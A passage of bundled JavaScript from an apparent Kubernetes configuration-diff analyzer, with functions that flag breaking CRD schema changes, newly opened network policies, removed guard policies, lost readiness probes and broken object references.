  return `[${items.filter((item) => !isOfOne(HAS2.exec(item)?.[1] ?? "") || !HAS2.test(item)).join()}]`;
});

// src/domains/config/kubernetes/crd-schema.ts
function compareSchemas(before3, after, field = "") {
  if (before3 === void 0 || after === void 0) return [];
  const both2 = { field, before: before3, after };
  const retyped2 = typeChanged(both2);
  if (retyped2.length > 0) return retyped2;
  const breaks = [...CHECKS2.flatMap((check) => check(both2)), ...below(both2)];
  return isEmbedded(before3) && isEmbedded(after) ? breaks.map((found) => ({ ...found, weight: "embedded" })) : breaks;
}
function below({ field, before: before3, after }) {
  const properties = entriesOf(at(before3, "properties")).flatMap(
    ([name, old]) => compareSchemas(old, at(after, "properties", name), within2(field, name))
  );
  return [
    ...properties,
    ...compareSchemas(at(before3, "items"), at(after, "items"), `${field}[]`),
    ...compareSchemas(at(before3, "additionalProperties"), at(after, "additionalProperties"), `${field}.*`)
  ];
}
var within2 = (field, name) => field === "" ? name : `${field}.${name}`;
function typeChanged({ field, before: before3, after }) {
  const [old, now] = [at(before3, "type"), at(after, "type")];
  const [from3, to] = [textAt(before3, "type"), textAt(after, "type")];
  if (switchOf(at(before3, EITHER)) === true && switchOf(at(after, EITHER)) !== true)
    return [
      { what: "type-changed", field, from: "integer or string", to: to ?? "any", before: old, after: now ?? after }
    ];
  if (from3 === void 0 || to === void 0 || from3 === to) return [];
  return [{ what: "type-changed", field, from: from3, to, before: old, after: now }];
}
var EITHER = "x-kubernetes-int-or-string";
var fieldsRemoved = ({ field, before: before3, after }) => {
  if (keepsUnknown(after) || at(after, "properties") === void 0) return [];
  const { removed: removed2, renamed: renamed2 } = fieldsOf(before3, after);
  const lost = removed2.filter(([name]) => field !== "" || !IMPLIED2.has(renamed2.get(name) ?? ""));
  return lost.map(([name, old]) => {
    const sides = { field: within2(field, name), before: old, after: at(after, "properties") };
    const other = renamed2.get(name);
    if (other === void 0) return { what: "field-removed", ...sides };
    return { what: "field-renamed", ...sides, to: other, after: at(after, "properties", other) };
  });
};
var IMPLIED2 = /* @__PURE__ */ new Set(["apiVersion", "kind", "metadata"]);
function fieldsOf(before3, after) {
  const [old, now] = [at(before3, "properties"), at(after, "properties")];
  const removed2 = entriesOf(old).filter(([name]) => at(now, name) === void 0);
  const added2 = removed2.length === 0 ? [] : entriesOf(now).filter(([name]) => at(old, name) === void 0);
  const renamed2 = new Map([...matchRenames(removed2, added2)].map(([to, from3]) => [from3, to]));
  return { removed: removed2, renamed: renamed2 };
}
var requiredAdded = ({ field, before: before3, after }) => {
  const had = new Set(textsOf(at(before3, "required")));
  const fresh = textsOf(at(after, "required")).filter(
    (name) => !had.has(name) && at(after, "properties", name, "default") === void 0
  );
  if (fresh.length === 0) return [];
  const renamed2 = new Map([...fieldsOf(before3, after).renamed].map(([from3, to]) => [to, from3]));
  return fresh.filter((name) => !had.has(renamed2.get(name) ?? "")).map((name) => ({
    what: "required-added",
    field: within2(field, name),
    before: at(before3, "required") ?? before3,
    after: at(after, "required"),
    // Nobody writes an object without one.
    ...field === "" && name === "spec" ? { weight: "mild" } : {}
  }));
};
var CHECKS2 = [fieldsRemoved, requiredAdded, boundsTightened, validationsAdded, ...valueChecks];

// src/domains/config/kubernetes/crds.ts
function crdFacts(pair) {
  const { before: before3, after } = pair;
  if (before3 === void 0) return [];
  if (after === void 0) return factOf(pair, [{ what: "removed", field: "", before: before3.root }]);
  const replaced2 = identityChanged(before3.root, after.root);
  if (replaced2 !== void 0) return factOf(pair, [replaced2]);
  const breaks = [
    ...scopeChanged(before3.root, after.root),
    ...envelopeBreaks(before3, after),
    ...versionBreaks(before3.root, after.root)
  ];
  return [...gather(withoutRepeats(breaks), causeOf2).values()].flatMap((found) => factOf(pair, found));
}
function versionBreaks(before3, after) {
  const now = new Map(versionsOf(after).map((version) => [textAt(version, "name") ?? "", version]));
  return versionsOf(before3).filter(isServed).flatMap((version) => {
    const kept2 = now.get(textAt(version, "name") ?? "");
    return kept2 === void 0 || !isServed(kept2) ? [withdrawn(version, after, kept2)] : withoutNulls(compareSchemas(schemaOf(version), schemaOf(kept2)));
  });
}
function withoutNulls(breaks) {
  const required = new Set(breaks.filter(({ what }) => what === "required-added").map(({ field }) => field));
  return breaks.filter(({ what, field }) => what !== "null-refused" || !required.has(field));
}
var schemaOf = (version) => at(version, "schema", "openAPIV3Schema");
function withdrawn(version, after, kept2) {
  const isEarly = isEarlyVersion(version) || isEarlyGroup(textAt(after, "spec", "group") ?? "");
  return {
    what: "version-removed",
    field: textAt(version, "name") ?? "",
    before: version,
    after: kept2 ?? at(after, "spec", "versions"),
    ...switchOf(at(version, "storage")) === true ? { wasStored: true } : {},
    ...isEarly ? { weight: "early" } : {}
  };
}
function scopeChanged(before3, after) {
  const [old, now] = [at(before3, "spec", "scope"), at(after, "spec", "scope")];
  const [from3, to] = [textAt(old), textAt(now)];
  return from3 === to ? [] : [{ what: "scope-changed", field: "scope", from: from3, to, before: old, after: now }];
}
var withoutRepeats = (breaks) => [...gather(breaks, ({ what, field, to = "" }) => `${what} ${field} ${to}`).values()].flatMap(
  ([first]) => first ?? []
);
var STRICTER = [
  "bound-tightened",
  "enum-added",
  "validation-added",
  "pattern-added",
  "bound-added",
  "pattern-changed"
];
var causeOf2 = ({ what, field, weight }) => weight === "embedded" ? weight : `${isOfStatus(field) ? "status " : ""}${STRICTER.includes(what) ? "stricter" : what}`;
var isOfStatus = (field) => /^status\b/.test(field);
function factOf(pair, breaks) {
  const [first, ...more2] = breaks.toSorted(
    (a, b) => Number(a.weight !== void 0) - Number(b.weight !== void 0) || STRICTER.indexOf(a.what) - STRICTER.indexOf(b.what) || (a.field < b.field ? -1 : 1)
  );
  if (first === void 0) return [];
  const { before: before3, after = pair.after?.root, ...told5 } = first;
  const crd3 = nameOfCrd(pair);
  const what = `${first.field} ${first.what} ${valuesOf2(first)}`;
  const where = objectFact(pair, ["spec", "versions"], what, { before: before3, after });
  return [{ kind: "crd-broken", ...where, group: groupOf2(first, crd3), crd: crd3, others: more2.length, ...told5 }];
}
var nameOfCrd = ({ before: before3, after }) => {
  const document = after ?? before3;
  return (document && nameOf2(document)) ?? "";
};
var valuesOf2 = ({ from: from3 = "unset", to = "unset" }) => `${from3}->${to}`;
function groupOf2(first, crd3) {
  const { what, field, from: from3 = "", to = "" } = first;
  if (what === "identity-changed" && field === "name") return `${what} ${makerOf(from3)}->${makerOf(to)}`;
  const edit = STRICTER.includes(what) || first.weight === "embedded" ? "" : editOf(first);
  return [`${causeOf2(first)} ${makerOf(crd3)}`, edit].filter(Boolean).join(": ");
}
var editOf = (found) => {
  const { what, field, from: from3, to } = found;
  const part = RETYPED.has(what) ? "" : field.slice(field.lastIndexOf(".") + 1);
  return [part, from3 === void 0 && to === void 0 ? "" : valuesOf2(found)].filter(Boolean).join(" ");
};
var RETYPED = /* @__PURE__ */ new Set(["type-changed", "format-changed"]);
var makerOf = (crd3) => crd3.split(".").slice(-2).join(".").replace(/^x-/, "");

// src/domains/config/kubernetes/guards.ts
import { dirname } from "node:path/posix";
var GUARDS = {
  AuthorizationPolicy: "mesh",
  PeerAuthentication: "mesh",
  RequestAuthentication: "mesh",
  CiliumClusterwideNetworkPolicy: "network",
  CiliumNetworkPolicy: "network",
  GlobalNetworkPolicy: "network",
  NetworkPolicy: "network",
  PodDisruptionBudget: "disruption",
  ClusterPolicy: "admission",
  ValidatingAdmissionPolicy: "admission",
  ValidatingAdmissionPolicyBinding: "admission",
  ValidatingPolicy: "admission",
  ValidatingWebhookConfiguration: "webhook"
};
function guardedBy(document) {
  if (document === void 0) return void 0;
  const [kind, group4] = [kindOf(document), groupOf(document)];
  if (group4 === "constraints.gatekeeper.sh" || group4 === "kyverno.io" && kind === "Policy") return "admission";
  return Object.hasOwn(GUARDS, kind) ? GUARDS[kind] : void 0;
}
var SELECTORS = ["podSelector", "selector"];
function guardFacts(pairs) {
  const gone3 = lone(pairs.filter(({ after }) => after === void 0));
  const fresh = lone(pairs.filter(({ before: before3 }) => before3 === void 0));
  return [
    ...withoutRenamed(gone3, fresh).map((pair) => ({
      kind: "guard-removed",
      guards: guardedBy(pair.before) ?? "mesh",
      ...objectFact(pair, [], "removed", { before: pair.before?.root }),
      ...ofOnePolicy(pair.before),
      ...called(pair.before)
    })),
    ...withoutRenamed(fresh, gone3).map((pair) => ({
      kind: "guard-added",
      ...objectFact(pair, [], "added", { after: pair.after?.root }),
      ...called(pair.after)
    }))
  ];
}
function ofOnePolicy(document) {
  const kind = kindOf(document);
  if (kind === "ValidatingAdmissionPolicy") return { group: `admission policy ${nameIn2(document) ?? ""}` };
  if (kind !== "ValidatingAdmissionPolicyBinding") return {};
  return { group: `admission policy ${textAt(document?.root, "spec", "policyName") ?? ""}` };
}
var SAME = 0.6;
var withoutRenamed = (pairs, others) => pairs.filter((pair) => !others.some((other) => isLike(pair.after ?? pair.before, other.after ?? other.before)));
function isLike(one, other) {
  const [spec, same] = [at(one?.root, "spec"), at(other?.root, "spec")];
  if (kindOf(one) !== kindOf(other) || spec === void 0 || same === void 0) return false;
  if (likeness(spec, same) >= SAME) return true;
  const [name, longer] = [nameIn2(one) ?? "", nameIn2(other) ?? ""];
  const isNear = sharedLength(name, longer) >= SAME * Math.max(name.length, longer.length);
  return isNear && likeness(withoutSelector(spec), withoutSelector(same)) === 1;
}
var withoutSelector = (spec) => spec.kind === "map" ? { ...spec, entries: new Map([...spec.entries].filter(([key3]) => !SELECTORS.includes(key3))) } : spec;
function lone(pairs) {
  const moving2 = pairs.filter(({ before: before3, after }) => isGuarded(after ?? before3));
  const folders = new Set(moving2.map(({ path: path27 }) => dirname(path27)));
  const names2 = new Set(moving2.flatMap(({ before: before3, after }) => nameIn2(after ?? before3) ?? []));
  const selected = new Set(pairs.flatMap(({ before: before3, after }) => selectorOf(after ?? before3, "Service") ?? []));
  return pairs.filter(({ before: before3, after, path: path27 }) => {
    const guard2 = after ?? before3;
    return guard2 !== void 0 && isGuard(guard2) && !folders.has(dirname(path27)) && !namesSelectedBy(guard2).some((name) => names2.has(name)) && !selected.has(selectorOf(guard2, "NetworkPolicy") ?? "");
  });
}
function selectorOf(document, kind) {
  if (kindOf(document) !== kind) return void 0;
  const path27 = kind === "Service" ? ["selector"] : ["podSelector", "matchLabels"];
  const labels = at(document?.root, "spec", ...path27);
  return labels === void 0 || entriesOf(labels).length === 0 ? void 0 : signature(labels);
}
var BRINGS_PODS = /* @__PURE__ */ new Set(["Application", "HelmChart", "HelmRelease"]);
var isGuarded = (document) => podOf(document) !== void 0 || BRINGS_PODS.has(kindOf(document)) || kindOf(document) === "CustomResourceDefinition";
var nameIn2 = (document) => document && nameOf2(document);
var namesSelectedBy = ({ root }) => SELECTORS.flatMap((key3) => {
  const selector2 = at(root, "spec", key3);
  const labels = entriesOf(at(selector2, "matchLabels")).flatMap(([, value]) => textsOf(value));
  return [...labels, ...itemsAt(selector2, "matchExpressions").flatMap((each) => textsOf(at(each, "values")))];
});
var isGuard = (document) => guardedBy(document) !== void 0 && !letsAllIn(document);
function letsAllIn(document) {
  const { root } = document;
  if (kindOf(document) !== "AuthorizationPolicy" || (textAt(root, "spec", "action") ?? "ALLOW") !== "ALLOW")
    return false;
  return itemsAt(root, "spec", "rules").some((rule) => rule.kind === "map" && rule.entries.size === 0);
}
var called = (document) => ({
  objectKind: kindOf(document),
  name: (document && nameOf2(document)) ?? ""
});

// src/domains/config/algebra/cidr.ts
function cidr(text) {
  const [, host = "", length] = /^([0-9a-fA-F.:]{2,45})(?:\/(\d{1,3}))?$/.exec(text.trim()) ?? [];
  const bits = host.includes(":") ? 128 : 32;
  const address = bits === 128 ? ipv6(host) : ipv4(host);
  const prefix = Number(length ?? bits);
  return address === void 0 || prefix > bits ? void 0 : { bits, address, prefix };
}
var contains = (outer, inner) => outer.bits === inner.bits && outer.prefix <= inner.prefix && network(outer.address, outer) === network(inner.address, outer);
var overlaps = (a, b) => contains(a, b) || contains(b, a);
var network = (address, { bits, prefix }) => address >> BigInt(bits - prefix);
function ipv4(text) {
  const parts = text.split(".");
  const valid = parts.length === 4 && parts.every((part) => /^\d{1,3}$/.test(part) && Number(part) <= 255);
  return valid ? parts.reduce((address, part) => address << 8n | BigInt(part), 0n) : void 0;
}
function ipv6(text) {
  const halves = withoutDots(text)?.split("::") ?? [];
  if (halves.length === 0 || halves.length > 2) return void 0;
  const [head = [], tail2 = []] = halves.map((half) => half === "" ? [] : half.split(":"));
  const missing2 = 8 - head.length - tail2.length;
  if (halves.length === 2 ? missing2 < 1 : missing2 !== 0) return void 0;
  const groups2 = [...head, ...Array.from({ length: missing2 }, () => "0"), ...tail2];
  const valid = groups2.every((group4) => /^[0-9a-fA-F]{1,4}$/.test(group4));
  return valid ? groups2.reduce((address, group4) => address << 16n | BigInt(`0x${group4}`), 0n) : void 0;
}
function withoutDots(text) {
  if (!text.includes(".")) return text;
  const start = text.lastIndexOf(":") + 1;
  const tail2 = ipv4(text.slice(start));
  return tail2 === void 0 ? void 0 : `${text.slice(0, start)}${(tail2 >> 16n).toString(16)}:${(tail2 & 0xffffn).toString(16)}`;
}
function letsInMore(known2, listed6) {
  const [before3, after] = [known2, listed6].map((texts) => texts.flatMap((text) => cidr(text) ?? []));
  if (after === void 0 || before3 === void 0) return false;
  return after.some((block2) => block2.prefix === 0 || !before3.some((wider) => contains(wider, block2)));
}

// src/domains/config/algebra/network-policy.ts
var DIRECTIONS = ["Ingress", "Egress"];
var blockOf = (text, except) => ({
  kind: "block",
  cidr: text,
  range: cidr(text),
  holes: except.flatMap((hole) => cidr(hole) ?? [])
});
var ALL_PORTS = { from: 0, to: 65535 };
var MOST_COMPARISONS3 = 1e6;
var EVERYONE = { kind: "everyone" };
function openings(direction, rules4) {
  return rules4.flatMap(
    ({ peers: peers2, ports: ports2, line }) => (peers2.length === 0 ? [EVERYONE] : peers2).flatMap(
      (peer) => (ports2.length === 0 ? [void 0] : ports2).map((port) => ({ direction, peer, ports: port, line }))
    )
  );
}
function opened(direction, base, head) {
  if (base === void 0) return [];
  const known2 = openings(direction, base);
  const alike = new Set(known2.map(spelling));
  const fresh = openings(direction, head).filter((opening5) => !alike.has(spelling(opening5)));
  if (fresh.length * known2.length > MOST_COMPARISONS3) return fresh;
  return fresh.filter(
    ({ peer, ports: ports2 }) => !known2.some((wider) => coversPeer(wider.peer, peer) && coversPorts(wider.ports, ports2))
  );
}
var spelling = ({ peer, ports: ports2 }) => JSON.stringify([ports2, ...partsOf(peer)]);
function partsOf(peer) {
  if (peer.kind === "everyone") return [];
  if (peer.kind === "block") return [peer.cidr, peer.holes.map(({ address, prefix }) => `${address}/${prefix}`)];
  return [peer.namespaces && [...peer.namespaces], peer.pods && [...peer.pods]];
}
function coversPeer(outer, inner) {
  if (outer.kind === "everyone") return true;
  if (outer.kind === "block") return inner.kind === "block" && coversBlock(outer, inner);
  if (inner.kind !== "pods" || !fewer(outer.pods, inner.pods)) return false;
  if (outer.namespaces === void 0) return inner.namespaces === void 0;
  return inner.namespaces === void 0 ? outer.namespaces.size === 0 : fewer(outer.namespaces, inner.namespaces);
}
var fewer = (outer = /* @__PURE__ */ new Set(), inner = /* @__PURE__ */ new Set()) => [...outer].every((requirement) => inner.has(requirement));
function coversBlock(outer, inner) {
  const [wide, narrow] = [outer.range, inner.range];
  if (wide === void 0 || narrow === void 0) return outer.cidr === inner.cidr;
  if (!contains(wide, narrow)) return false;
  return outer.holes.every((hole) => !overlaps(hole, narrow) || inner.holes.some((still) => contains(still, hole)));
}
function coversPorts(outer, inner) {
  if (outer === void 0) return true;
  if (inner === void 0 || outer.protocol !== inner.protocol) return false;
  if (outer.name !== void 0) return outer.name === inner.name;
  return outer.from <= inner.from && inner.to <= outer.to;
}
function reachOf2(peer) {
  if (peer.kind === "everyone") return "everyone";
  if (peer.kind === "block") return peer.range?.prefix === 0 ? "everyone" : "block";
  return peer.namespaces?.size === 0 && (peer.pods?.size ?? 0) === 0 ? "all-namespaces" : "pods";
}

// src/domains/config/kubernetes/network-policies.ts
var FIELDS = { Ingress: ["ingress", "from"], Egress: ["egress", "to"] };
var WIDEST = ["everyone", "all-namespaces", "block", "pods"];
var isNetworkPolicy = ({ before: before3, after }) => {
  const document = after ?? before3;
  return kindOf(document) === "NetworkPolicy" && document !== void 0 && groupOf(document) === "networking.k8s.io";
};
function networkPolicyFacts(pair) {
  const { before: before3, after } = pair;
  if (before3 === void 0 || after === void 0 || after.isTemplate !== before3.isTemplate) return [];
  const ofDirections = DIRECTIONS.flatMap((direction) => {
    const [base, head] = [allowances(before3, direction), allowances(after, direction)];
    if (base !== void 0 && head === void 0) return [release(pair, after, direction)];
    const gained = opened(direction, base, head ?? []);
    if (gained.length > 0) return [opening2(pair, direction, gained, base ?? [])];
    const closed = head !== void 0 && (base === void 0 || opened(direction, head, base).length > 0);
    return closed ? [closing(pair, after, direction)] : [];
  });
  return [...ofDirections, ...narrowing(pair, before3, after)];
}
var NO_LABELS = /* @__PURE__ */ new Set();
function narrowing(pair, before3, after) {
  const sides = { before: at(before3.root, "spec", "podSelector"), after: at(after.root, "spec", "podSelector") };
  const [asked4, asks3] = [selector(sides.before) ?? NO_LABELS, selector(sides.after) ?? NO_LABELS];
  const isNarrower = asks3.size > asked4.size && [...asked4].every((label2) => asks3.has(label2));
  if (!isNarrower || after.isTemplate) return [];
  const labels = listed4(asks3);
  const where = objectFact(pair, ["spec", "podSelector"], `selects ${labels}`, sides);
  return [{ kind: "network-policy-narrowed", ...where, policy: titleOf(pair), labels }];
}
var sidesOf = ({ before: before3 }, after) => ({
  before: at(before3?.root, "spec"),
  after: at(after.root, "spec") ?? after.root
});
var release = (pair, after, direction) => ({
  kind: "network-opened",
  ...objectFact(pair, ["spec", "policyTypes"], `${direction} released`, sidesOf(pair, after)),
  group: `${direction} released`,
  policy: titleOf(pair),
  direction,
  reach: "everyone",
  peer: {},
  opened: 1,
  isKnownPeer: false,
  released: true
});
var closing = (pair, after, direction) => ({
  kind: "network-closed",
  ...objectFact(pair, ["spec", FIELDS[direction][0]], `${direction} closed`, sidesOf(pair, after)),
  policy: titleOf(pair),
  direction
});
var rank = ({ peer, ports: ports2 }) => 2 * WIDEST.indexOf(reachOf2(peer)) + Number(ports2 !== void 0);
function opening2(pair, direction, gained, known2) {
  const widest = gained.reduce((best, next) => rank(next) < rank(best) ? next : best);
  const [field] = FIELDS[direction];
  const rule = itemsAt(pair.after?.root, "spec", field).find(({ line }) => line === widest.line);
  const sides = { before: at(pair.before?.root, "spec", field) ?? at(pair.before?.root, "spec"), after: rule };
  const [peer, ports2] = [namedPeer(widest.peer), widest.ports && shownPorts(widest.ports)];
  const what = Object.values(peer).join(" of ") || "everyone";
  const key3 = `${direction} ${what} ${ports2 ?? "all ports"}`;
  return {
    kind: "network-opened",
    ...objectFact(pair, ["spec", field], key3, sides),
    group: key3,
    policy: titleOf(pair),
    direction,
    reach: reachOf2(widest.peer),
    peer,
    ...ports2 === void 0 ? {} : { ports: ports2 },
    opened: gained.length,
    isKnownPeer: known2.some(({ peers: peers2 }) => peers2.some((each) => coversPeer(each, widest.peer))),
    released: false
  };
}
var listed4 = (chosen) => [...chosen].join(", ");
function namedPeer(peer) {
  if (peer.kind === "everyone") return {};
  if (peer.kind === "block") return { block: peer.cidr };
  return {
    pods: listed4(peer.pods ?? /* @__PURE__ */ new Set()),
    ...peer.namespaces === void 0 ? {} : { namespaces: listed4(peer.namespaces) }
  };
}
var shownPorts = ({ protocol, from: from3, to, name }) => `${protocol} ${name ?? (from3 === to ? from3 : `${from3}-${to}`)}`;
function allowances({ root }, direction) {
  const [field, peers2] = FIELDS[direction];
  const types = textsOf(at(root, "spec", "policyTypes"));
  const isolates = types.length > 0 ? types.includes(direction) : direction === "Ingress" || at(root, "spec", field) !== void 0;
  if (!isolates) return void 0;
  return itemsAt(root, "spec", field).map((rule) => ({
    peers: itemsAt(rule, peers2).map(peerOf),
    ports: itemsAt(rule, "ports").map(portsOf),
    line: rule.line
  }));
}
function peerOf(node) {
  const block2 = textAt(node, "ipBlock", "cidr");
  if (block2 !== void 0) return blockOf(block2, textsOf(at(node, "ipBlock", "except")));
  return { kind: "pods", namespaces: selector(at(node, "namespaceSelector")), pods: selector(at(node, "podSelector")) };
}
function selector(node) {
  if (node === void 0) return void 0;
  const labels = entriesOf(at(node, "matchLabels")).map(([key3, value]) => `${key3}=${textsOf(value).join()}`);
  const expressions = itemsAt(node, "matchExpressions").map(
    (each) => [textAt(each, "key"), textAt(each, "operator"), textsOf(at(each, "values")).toSorted().join("|")].join(" ").trim()
  );
  return /* @__PURE__ */ new Set([...labels, ...expressions]);
}
function portsOf(node) {
  const protocol = textAt(node, "protocol") ?? "TCP";
  const port = textAt(node, "port");
  if (port === void 0) return { protocol, ...ALL_PORTS };
  if (!/^\d{1,5}$/.test(port)) return { protocol, from: 0, to: 0, name: port };
  return { protocol, from: Number(port), to: Number(textAt(node, "endPort") ?? port) };
}

// src/domains/config/kubernetes/reference-fact.ts
var SHARED = ["backend", "emptied", "key", "object"];
var brokenReference = (user2, what, to, sides) => ({
  kind: "reference-broken",
  ...SHARED.includes(what) ? { ...factAt(user2, [], `${what} ${to}`, sides), group: `${what} ${to}` } : objectFact(user2, ["spec"], `${what} ${to}`, sides),
  object: titleOf(user2),
  what,
  to
});

// src/domains/config/kubernetes/readiness.ts
function readinessFacts(pairs) {
  const services = pairs.filter(({ after }) => kindOf(after) === "Service");
  return pairs.flatMap((pair) => {
    const pods = podPair(pair);
    const lost = pods === void 0 ? [] : containerPairs(pods).filter(losesProbe);
    const service6 = lost.length === 0 ? void 0 : services.find((other) => selects(other, pair));
    return lost.map((container2) => removal(container2, service6));
  });
}
var probeOf = (container2) => at(container2?.node, "readinessProbe");
var losesProbe = ({ before: before3, after }) => probeOf(before3) !== void 0 && probeOf(after) === void 0;
function removal({ document, before: before3, after }, service6) {
  const name = service6?.after && nameOf2(service6.after);
  const path27 = containerPath(after, "readinessProbe");
  return {
    kind: "readiness-removed",
    ...factAt(document, path27, `${titleOf(document)}: removed`, { before: probeOf(before3), after: after.node }),
    container: after.name,
    ...name === void 0 ? {} : { service: name }
  };
}
function selects({ after: service6 }, { after: workload }) {
  return service6 !== void 0 && workload !== void 0 && selectsPodsOf(service6, workload);
}
var selectsPodsOf = (service6, workload) => namespaceOf(service6) === namespaceOf(workload) && hasLabels(workload, at(service6.root, "spec", "selector"));
function hasLabels(workload, asked4) {
  const [wanted, labels] = [entriesOf(asked4), labelsOf(workload.root)];
  return wanted.length > 0 && wanted.every(([name, value]) => value.kind === "scalar" && textAt(labels, name) === value.text);
}
var labelsOf = (root) => at(root, "spec", "template", "metadata", "labels") ?? at(root, "metadata", "labels");

// src/domains/config/kubernetes/budgets.ts
function budgetFacts(pairs) {
  const workloads = pairs.filter(({ after }) => textAt(after?.root, "spec", "replicas") !== void 0);
  return pairs.filter(({ after }) => kindOf(after) === "PodDisruptionBudget").flatMap((budget4) => {
    const blocked = workloads.find((pair) => blocks(budget4.after, pair.after) && !blocks(budget4.before, pair.before));
    const after = at(budget4.after?.root, "spec", "minAvailable");
    return blocked === void 0 ? [] : [brokenReference(budget4, "budget", titleOf(blocked), { after })];
  });
}
function blocks(budget4, workload) {
  if (budget4 === void 0 || workload === void 0) return false;
  const least = textAt(budget4.root, "spec", "minAvailable") ?? "%";
  const replicas = Number(textAt(workload.root, "spec", "replicas") ?? Number.NaN);
  const asksForAll = replicas > 1 && (countOf(least, replicas, "up") ?? 0) >= replicas;
  return asksForAll && !least.endsWith("%") && hasLabels(workload, at(budget4.root, "spec", "selector", "matchLabels"));
}

// src/domains/config/kubernetes/mounts.ts
function mountFacts(pair) {
  if (pair.before === void 0 || pair.after?.isTemplate !== false) return [];
  const known2 = new Set(danglingIn(pair.before).map((mount2) => textAt(mount2, "name")));
  return danglingIn(pair.after).filter((mount2) => !known2.has(textAt(mount2, "name"))).map((mount2) => brokenReference(pair, "volume", textAt(mount2, "name") ?? "", { after: mount2 }));
}
function danglingIn(document) {
  const pod2 = podOf(document)?.node;
  const claims2 = itemsAt(document.root, "spec", "volumeClaimTemplates").map(
    (claim5) => textAt(claim5, "metadata", "name")
  );
  const volumes = /* @__PURE__ */ new Set([...itemsAt(pod2, "volumes").map((volume4) => textAt(volume4, "name")), ...claims2]);
  return CONTAINER_LISTS.flatMap((list) => itemsAt(pod2, list)).flatMap((container2) => itemsAt(container2, "volumeMounts")).filter((mount2) => !volumes.has(textAt(mount2, "name")));
}

// src/domains/config/kubernetes/pod-references.ts
function namesIn2(document) {
  if (kindOf(document) === "Ingress") return backendsOf(document);
  const pod2 = podOf(document)?.node;
  const containers = CONTAINER_LISTS.flatMap((list) => itemsAt(pod2, list));
  return [
    ...use("ServiceAccount", textAt(pod2, "serviceAccountName"), at(pod2, "serviceAccountName")),
    ...itemsAt(pod2, "volumes").flatMap(ofVolume),
    ...containers.flatMap((container2) => itemsAt(container2, "env").flatMap(ofVariable)),
    ...containers.flatMap((container2) => itemsAt(container2, "envFrom").flatMap(ofVariables))
  ];
}
function backendsOf(document) {
  const paths2 = itemsAt(document?.root, "spec", "rules").flatMap((rule) => itemsAt(rule, "http", "paths"));
  return [at(document?.root, "spec", "defaultBackend"), ...paths2.map((path27) => at(path27, "backend"))].flatMap(
    (backend) => use("Service", textAt(backend, "service", "name"), at(backend, "service", "name"))
  );
}
function ofVolume(volume4) {
  const claim5 = at(volume4, "persistentVolumeClaim");
  return [
    ...use("PersistentVolumeClaim", textAt(claim5, "claimName"), claim5),
    ...files("ConfigMap", at(volume4, "configMap"), "name"),
    ...files("Secret", at(volume4, "secret"), "secretName")
  ];
}
function files(kind, source, called6) {
  const items = itemsAt(source, "items");
  return [
    ...use(kind, textAt(source, called6), source),
    ...isOptional(source) ? [] : items.flatMap((item) => use(kind, textAt(source, called6), item, textAt(item, "key")))
  ];
}
var ofVariable = (variable3) => ["ConfigMap", "Secret"].flatMap((kind) => {
  const source = at(variable3, "valueFrom", `${kind.charAt(0).toLowerCase()}${kind.slice(1)}KeyRef`);
  return use(kind, textAt(source, "name"), source, textAt(source, "key"));
});
var ofVariables = (entry4) => ["ConfigMap", "Secret"].flatMap((kind) => {
  const source = at(entry4, `${kind.charAt(0).toLowerCase()}${kind.slice(1)}Ref`);
  return use(kind, textAt(source, "name"), source);
});
function use(kind, name, node, key3) {
  if (name === void 0 || node === void 0 || name.includes("{{") || isOptional(node)) return [];
  return [{ kind, name, node, ...key3 === void 0 ? {} : { key: key3 } }];
}
var isOptional = (source) => switchOf(at(source, "optional")) === true;

// src/domains/config/kubernetes/targets.ts
function targetFacts(pairs) {
  const heads = pairs.flatMap(({ after }) => runsPods(after));
  const bases = pairs.flatMap(({ before: before3 }) => runsPods(before3));
  return pairs.filter(({ after }) => kindOf(after) === "Service" && after?.isTemplate === false).flatMap((pair) => {
    const had = new Set(missed(pair.before, bases).map(targetOf2));
    return missed(pair.after, heads).filter((port) => !had.has(targetOf2(port))).map((port) => brokenReference(pair, "port", targetOf2(port), { after: at(port, "targetPort") ?? port }));
  });
}
function strandedFacts(pairs) {
  const workloads = pairs.filter(({ before: before3, after }) => podOf(before3) !== void 0 && isWritten(after));
  const heads = pairs.flatMap(({ after }) => runsPods(after));
  return pairs.filter(keepsSelector).flatMap((service6) => {
    const lost = workloads.find((pair) => selectsAny(service6.before, runsPods(pair.before)));
    return lost === void 0 || selectsAny(service6.after, heads) ? [] : [brokenReference(service6, "pods", titleOf(lost), { after: at(service6.after?.root, "spec", "selector") })];
  });
}
var isWritten = (document) => document?.isTemplate === false && podOf(document) !== void 0;
var selectsAny = (service6, documents2) => service6 !== void 0 && documents2.some((document) => selectsPodsOf(service6, document));
function keepsSelector({ before: before3, after }) {
  const [had, has2] = [before3, after].map((document) => at(document?.root, "spec", "selector"));
  if (kindOf(after) !== "Service" || after?.isTemplate !== false || had === void 0 || has2 === void 0)
    return false;
  return signature(had) === signature(has2);
}
var runsPods = (document) => document !== void 0 && podOf(document) !== void 0 ? [document] : [];
function targetOf2(port) {
  const target = textAt(port, "targetPort");
  return (target === "0" ? void 0 : target) ?? textAt(port, "port") ?? "";
}
function missed(service6, documents2) {
  if (service6 === void 0) return [];
  const pods = documents2.filter((document) => selectsPodsOf(service6, document));
  const ports2 = pods.flatMap(
    (document) => itemsAt(podOf(document)?.node, "containers").flatMap((container2) => itemsAt(container2, "ports"))
  );
  if (pods.length === 0 || ports2.length === 0 || pods.some(({ isTemplate: isTemplate3 }) => isTemplate3)) return [];
  const listed6 = new Set(ports2.flatMap((port) => [textAt(port, "name"), textAt(port, "containerPort")]));
  return itemsAt(service6.root, "spec", "ports").filter(
    (port) => !isDynamic(at(port, "targetPort")) && !listed6.has(targetOf2(port))
  );
}

// src/domains/config/kubernetes/broken-references.ts
var MAKERS = /* @__PURE__ */ new Map([
  ["ExternalSecret", "Secret"],
  ["SealedSecret", "Secret"],
  ["SopsSecret", "Secret"]
]);
var HOLDS_KEYS = /* @__PURE__ */ new Set(["ConfigMap", "Secret"]);
function referenceFacts(pairs) {
  const known2 = namesOf3(pairs.flatMap(({ after }) => after ?? []));
  const lost = pairs.filter(({ before: before3 }) => before3 !== void 0 && !known2.has(identityOf(before3)));
  const thinned = pairs.map((pair) => ({ pair, keys: keysLost(pair) })).filter(({ keys }) => keys.length > 0);
  const users = pairs.filter(({ after }) => podOf(after) !== void 0 || kindOf(after) === "Ingress");
  return [
    ...users.flatMap((user2) => [...lostObjects(user2, lost), ...lostKeys(user2, thinned), ...mountFacts(user2)]),
    ...targetFacts(pairs),
    ...strandedFacts(pairs),
    ...budgetFacts(pairs)
  ];
}
